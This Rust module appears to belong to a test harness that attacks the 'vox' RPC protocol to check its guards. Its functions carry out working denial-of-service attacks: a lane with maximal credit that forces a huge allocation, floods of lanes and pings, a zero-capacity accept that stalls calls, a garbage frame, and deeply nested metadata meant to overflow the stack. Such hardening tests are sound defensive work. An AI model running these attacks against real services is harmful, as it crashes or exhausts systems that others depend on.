//! Attacks with lanes and with messages that belong to none.

use std::io;
use std::time::Duration;

use facet_value::{VArray, Value};
use vox::LaneId;
use vox_types::{LaneAccept, LaneOpen, Message, MessagePayload, Ping};

use super::peer::{Peer, service, settings};
use super::{Observation, Target};

/// Opens a lane with the highest channel credit there is, then calls with a channel and sends an
/// item: unguarded, vox allocates 240 GB and the process aborts.
pub async fn absurd_lane_credit(target: &Target, limit: Duration) -> io::Result<Observation> {
    credit(target, u32::MAX, limit).await
}

/// The same with a credit of 50 million, which unguarded takes gigabytes per channel.
pub async fn large_lane_credit(target: &Target, limit: Duration) -> io::Result<Observation> {
    credit(target, 50_000_000, limit).await
}

async fn credit(target: &Target, credit: u32, limit: Duration) -> io::Result<Observation> {
    let mut peer = Peer::establish(target).await?;
    let metadata = service(&target.service);
    let lane = peer.ask_lane(settings(64, credit), metadata).await?;
    let method = target.streaming.as_ref().unwrap_or(&target.unary);
    // The target may close at any point from here on.
    peer.call(lane, 1, method, &[1]).await.ok();
    peer.item(lane, 1, &[0; 4]).await.ok();
    Ok(peer.watch(limit).await)
}

/// Opens `lanes` lanes and keeps them.
pub async fn many_lanes(target: &Target, lanes: usize, limit: Duration) -> io::Result<Observation> {
    open_many(target, &target.service, lanes, limit).await
}

/// Opens `lanes` lanes for a service that does not exist.
pub async fn many_rejected_lanes(
    target: &Target,
    lanes: usize,
    limit: Duration,
) -> io::Result<Observation> {
    open_many(target, "NoSuchService", lanes, limit).await
}

async fn open_many(
    target: &Target,
    name: &str,
    lanes: usize,
    limit: Duration,
) -> io::Result<Observation> {
    let mut peer = Peer::establish(target).await?;
    for _ in 0..lanes {
        if peer
            .ask_lane(settings(64, 16), service(name))
            .await
            .is_err()
        {
            break;
        }
    }
    Ok(peer.watch(limit).await)
}

/// Waits for the target to open a lane and accepts it with no room for any request, which
/// unguarded makes every call on it wait for ever.
pub async fn zero_request_accept(target: &Target, limit: Duration) -> io::Result<Observation> {
    let mut peer = Peer::establish(target).await?;
    if let Some(announcing) = &target.announcing {
        let lane = peer.open_lane(target).await?;
        peer.call(lane, 1, announcing, &[]).await?;
    }
    let lane = peer.wait_for_lane(limit).await?;
    let accept = LaneAccept {
        connection_settings: settings(0, 16),
        metadata: vox::Metadata::default(),
    };
    peer.send(lane, MessagePayload::LaneAccept(accept)).await?;
    Ok(peer.watch(limit).await)
}

/// Passes the handshake and never says anything again.
pub async fn silence(target: &Target, limit: Duration) -> io::Result<Observation> {
    let peer = Peer::establish(target).await?;
    Ok(peer.watch(limit).await)
}

/// Sends a frame that is no message.
pub async fn garbage_message(target: &Target, limit: Duration) -> io::Result<Observation> {
    let peer = Peer::establish(target).await?;
    peer.frame(&[0xee; 300]).await?;
    Ok(peer.watch(limit).await)
}

/// Pings on lanes that were never opened; vox keeps state for each of them.
pub async fn ping_on_many_lanes(
    target: &Target,
    lanes: u64,
    limit: Duration,
) -> io::Result<Observation> {
    let peer = Peer::establish(target).await?;
    for lane in 1..=lanes {
        let ping = MessagePayload::Ping(Ping { nonce: lane });
        if peer.send(lane, ping).await.is_err() {
            break;
        }
    }
    Ok(peer.watch(limit).await)
}

/// Opens a lane whose metadata is nested `depth` deep, three levels at least.
pub async fn nested_metadata(
    target: &Target,
    depth: usize,
    limit: Duration,
) -> io::Result<Observation> {
    let shallow = lane_open(target, 2)?;
    let deep = lane_open(target, 3)?;
    let frame = repeat_level(&shallow, &deep, depth)?;
    let peer = Peer::establish(target).await?;
    peer.frame(&frame).await?;
    Ok(peer.watch_answers(0, limit).await)
}

/// A lane open with metadata nested `depth` deep, encoded.
fn lane_open(target: &Target, depth: usize) -> io::Result<Vec<u8>> {
    let open = LaneOpen {
        connection_settings: settings(64, 16),
        metadata: metadata(target, depth),
    };
    let message = Message {
        lane_id: LaneId(1),
        payload: MessagePayload::LaneOpen(open),
    };
    vox_phon::to_vec(&message).map_err(|error| io::Error::other(error.to_string()))
}

fn metadata(target: &Target, depth: usize) -> vox::Metadata {
    let mut nested = Value::from(1u64);
    for _ in 0..depth {
        let mut array = VArray::new();
        array.push(nested);
        nested = Value::from(array);
    }
    let mut metadata = service(&target.service);
    vox::meta_set(&mut metadata, "nested", nested);
    metadata
}

/// The encoding of one level is what `deep` has more than `shallow`, where they part. To nest
/// 100,000 levels as a value would overflow the attacker's own stack.
fn repeat_level(shallow: &[u8], deep: &[u8], depth: usize) -> io::Result<Vec<u8>> {
    let level = deep
        .len()
        .checked_sub(shallow.len())
        .filter(|level| *level > 0);
    let level = level.ok_or_else(|| io::Error::other("a level has no length of its own"))?;
    let common = shallow.iter().zip(deep).take_while(|(a, b)| a == b).count();
    let (head, rest) = deep.split_at(common.saturating_sub(level));
    let (one, _) = rest.split_at(level);
    let tail = &shallow[common.saturating_sub(level)..];
    let mut frame = head.to_vec();
    for _ in 0..depth.saturating_sub(2) {
        frame.extend_from_slice(one);
    }
    frame.extend_from_slice(tail);
    Ok(frame)
}
